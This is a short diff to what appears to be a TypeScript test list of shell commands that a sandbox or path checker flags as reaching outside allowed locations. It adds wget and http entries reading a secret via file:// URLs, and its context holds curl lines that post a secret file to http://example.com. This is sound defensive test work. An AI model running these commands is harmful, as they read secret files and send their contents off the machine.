@@ -60,6 +60,8 @@ const OUTSIDE: string[] = [
   `curl --url file://${secret}`,
   `curl -T README.md file://${outside}/copy.txt`,
   `git clone file://${outside}/repo dst`,
+  `wget -O- file://${secret}`,
+  `http file://${secret}`,
   `curl -d @${secret} http://example.com`,
   `curl -d@${out}/secret.txt http://example.com`,
   `curl --data @${out}/secret.txt http://example.com`,
